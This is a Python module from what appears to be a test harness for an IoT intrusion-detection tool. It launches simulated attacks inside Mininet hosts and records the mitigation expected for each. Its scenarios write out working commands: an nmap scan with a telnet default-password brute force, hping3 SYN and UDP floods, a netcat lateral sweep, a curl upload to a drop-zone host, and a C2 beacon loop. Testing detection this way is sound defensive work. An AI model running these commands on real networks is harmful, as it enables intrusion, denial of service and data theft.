"""Attack scenarios: real tools in Mininet hosts, each with its expected answer.

Every scenario is a function `(net, attacker=None, seconds=...) -> Attack`.  It
starts the attack inside the attacker's host (or hosts) under `timeout`,
records the processes with the network (so `stop_network` ends them by PID
too), and timestamps the moment it launched the first packet.  `Attack.stop()`
ends them by PID early.  `SCENARIOS[name]` names the shipped playbooks
any of which is a correct answer, and the action that should mitigate it.

    scan        Mirai-like: nmap SYN scan of the LAN on 23/2323, then telnet
                attempts on the hosts it found               -> quarantine
    syn_flood   hping3 TCP SYN flood (20k packets/s) to the internet host -> rate_limit
    udp_flood   hping3 UDP flood (20k packets/s) to the internet host     -> rate_limit
    slow_scan   TCP connects to its LAN neighbours one every 0.15 s on a few ports,
                below the burst threshold                    -> block_lateral
                (by the per-window or the 60 s playbook, whichever fires first:
                6 peers a second puts 5 or 6 of them in one 1 s window)
    exfil       a 40 MB upload to a drop zone it never talked to -> block_ip of it
    c2          three devices of one class start beaconing to a C2 address
                                                               -> block_ip of it
"""

from __future__ import annotations

import os
import signal
import time
from dataclasses import dataclass, field
from typing import Callable

from topologies.net import IoTTopo, start_process


# Floods send a packet every 50 us (about 20,000 packets/s, 1000 times a thermostat's
# normal rate), not hping3 --flood's few hundred thousand: an IoT CPU does not go
# faster, and on this 2-core test machine a --flood starves the software switch that
# every other device needs, which would measure the testbed, not iotguard.
FLOOD_GAP_US = 50


@dataclass
class Attack:
    name: str
    attackers: list[str]
    started: float                  # time.time() just before the first packet was sent
    procs: list = field(default_factory=list)
    printed: bool = False           # its commands' output is kept in their logs (`outputs`)

    def outputs(self) -> dict[str, str]:
        """What each attacker's command printed (for a scenario that prints its progress)."""
        out: dict[str, str] = {}
        if not self.printed:
            return out
        for host, p in zip(self.attackers, self.procs):
            try:
                with open(p.iotguard_log, errors="replace") as f:
                    out[host] = f.read()
            except (OSError, AttributeError):
                out[host] = ""
        return out

    def stop(self) -> None:
        for p in self.procs:
            if p.poll() is None:
                try:
                    os.killpg(p.pid, signal.SIGKILL)
                except (ProcessLookupError, PermissionError):
                    p.kill()
        for p in self.procs:
            try:
                p.wait(5)
            except Exception:  # noqa: BLE001 - cleanup must go on
                pass


@dataclass(frozen=True)
class Scenario:
    name: str
    run: Callable[..., Attack]
    playbooks: tuple[str, ...]      # the shipped playbooks any of which is a correct answer
    action: str                     # and their action
    attackers: dict                 # topology name -> default attacker host names
    doc: str


def _topo(net) -> IoTTopo:
    return net.topo


def _start(net, name: str, hosts: list[str], script: str, seconds: int, output: bool = False) -> Attack:
    """`output`: keep what the script prints in its log (Attack.outputs), not /dev/null."""
    attack = Attack(name, hosts, 0.0, printed=output)
    script = script if output else f"{{ {script}; }} >/dev/null 2>&1"
    cmd = lambda: ["timeout", str(int(seconds)), "sh", "-c", script]  # noqa: E731
    attack.started = time.time()
    for h in hosts:
        attack.procs.append(start_process(net, h, cmd(), name=f"attack-{name}"))
    return attack


def scan(net, attackers=None, seconds: int = 30) -> Attack:
    lan = _topo(net).LAN_CIDR
    script = (f"nmap -sS -Pn -n -T4 --max-retries 0 -p 23,2323 --open -oG /tmp/.scan.$$ {lan}; "
              "for h in $(awk '/23\\/open/{print $2}' /tmp/.scan.$$ | head -5); do "
              "for pw in admin root 1234 default; do printf 'root\\n%s\\n' $pw | nc -w 1 $h 23; done; done; "
              "rm -f /tmp/.scan.$$")
    return _start(net, "scan", attackers or _default("scan", net), script, seconds)


def syn_flood(net, attackers=None, seconds: int = 20) -> Attack:
    t = _topo(net)
    return _start(net, "syn_flood", attackers or _default("syn_flood", net),
                  f"hping3 -S -i u{FLOOD_GAP_US} -p 443 {t.INET_IP}", seconds)


def udp_flood(net, attackers=None, seconds: int = 20) -> Attack:
    t = _topo(net)
    return _start(net, "udp_flood", attackers or _default("udp_flood", net),
                  f"hping3 --udp -i u{FLOOD_GAP_US} -p 9999 {t.INET_IP}", seconds)


def slow_scan(net, attackers=None, seconds: int = 40) -> Attack:
    """A worm that learned its neighbours by listening (their ARP, so its neighbour table
    is already filled) probes them one at a time, about 6 a second on telnet, SSH and web
    ports: below the burst threshold, but more internal peers per window than the device
    ever talks to."""
    from topologies.net import inventory
    attackers = attackers or _default("slow_scan", net)
    t = _topo(net)
    lan = t.LAN_CIDR.rsplit(".", 2)[0]
    peers = [d for d in inventory(net) if d["name"] not in attackers and d["ip"].startswith(lan)]
    learned = "; ".join(f"ip neigh replace {d['ip']} lladdr {d['mac']} dev $(ip -o link show | "
                        f"awk -F': ' '/eth0/{{print $2; exit}}' | cut -d@ -f1) nud permanent" for d in peers)
    script = (f"{learned}; for p in 23 2323 22 80 8080; do for h in {' '.join(d['ip'] for d in peers)}; do "
              "nc -z -w 1 $h $p & sleep 0.15; done; done; wait")
    return _start(net, "slow_scan", attackers, script, seconds)


def exfil(net, attackers=None, seconds: int = 30) -> Attack:
    t = _topo(net)
    script = (f"head -c 40000000 /dev/urandom | curl -s -m {seconds} -o /dev/null --data-binary @- "
              f"http://{t.DROPZONE_IP}/upload")
    return _start(net, "exfil", attackers or _default("exfil", net), script, seconds)


def c2(net, attackers=None, seconds: int = 40) -> Attack:
    t = _topo(net)
    # Each beacon prints its HTTP status (000: no answer), so a failure can tell a
    # device that never reached its C2 from one that did and was not noticed.
    script = (f"while :; do curl -s -m 2 -o /dev/null -w '%{{http_code}}\\n' http://{t.C2_IP}/beacon; "
              "sleep 0.1; done")
    return _start(net, "c2", attackers or _default("c2", net), script, seconds, output=True)


SCENARIOS: dict[str, Scenario] = {s.name: s for s in (
    Scenario("scan", scan, ("quarantine-scanner-burst",), "quarantine",
             {"smart_home": ["camera"], "enterprise": ["cam1"]}, "Mirai-like telnet scan, then brute force"),
    Scenario("syn_flood", syn_flood, ("ratelimit-flood",), "rate_limit",
             {"smart_home": ["thermostat"], "enterprise": ["sensor1"]}, "TCP SYN flood to the internet host"),
    Scenario("udp_flood", udp_flood, ("ratelimit-flood",), "rate_limit",
             {"smart_home": ["doorbell"], "enterprise": ["printer"]}, "UDP flood to the internet host"),
    Scenario("slow_scan", slow_scan, ("block-lateral-iot", "block-lateral-iot-slow"), "block_lateral",
             {"smart_home": ["tv"], "enterprise": ["badge"]}, "slow sweep of its LAN neighbours"),
    Scenario("exfil", exfil, ("block-exfiltration",), "block_ip",
             {"smart_home": ["camera"], "enterprise": ["cam2"]}, "large upload to a new external host"),
    Scenario("c2", c2, ("block-c2-outbreak",), "block_ip",
             {"smart_home": ["bulb1", "bulb2", "bulb3"], "enterprise": ["ws1", "ws2", "ws3"]},
             "three devices of one class beacon to a C2 address"),
)}


def _default(name: str, net) -> list[str]:
    return list(SCENARIOS[name].attackers[_topo(net).NAME])


def target_of(name: str, topo: IoTTopo) -> str | None:
    """The remote address a block_ip answer should name, for the scenarios that have one."""
    return {"exfil": topo.DROPZONE_IP, "c2": topo.C2_IP}.get(name)
